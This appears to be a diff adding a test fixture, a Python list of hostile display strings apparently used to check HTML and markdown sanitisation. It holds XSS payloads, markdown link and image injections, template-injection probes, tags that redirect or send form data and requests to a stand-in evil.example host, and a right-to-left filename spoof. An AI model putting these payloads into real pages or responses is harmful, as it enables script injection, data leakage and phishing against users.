@@ -1,0 +1,28 @@
+"""Text that attacks whoever shows it."""
+
+HOSTILE = [
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg/onload=window.pwned=1>",
+    "\"><script>window.pwned=1</script>",
+    "'><img src=https://evil.example/x.png onerror=window.pwned=1>",
+    "</style><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</template><iframe srcdoc='<script>parent.pwned=1</script>'>",
+    "<a href=javascript:window.pwned=1>x</a>",
+    "[click](javascript:window.pwned=1)",
+    "[click](data:text/html,<script>window.pwned=1</script>)",
+    "![x](https://evil.example/leak.png)",
+    "![x](x\" onerror=\"window.pwned=1)",
+    "<javascript:window.pwned=1>",
+    "```\"><script>window.pwned=1</script>\nx\n```",
+    "{{ 7|add:7 }}{% debug %}${7*7}",
+    "<!--><script>window.pwned=1</script>-->",
+    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
+    "<form action=https://evil.example><input name=q><button>go",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "\u202egpj.exe\u202c",
+]  # fmt: skip
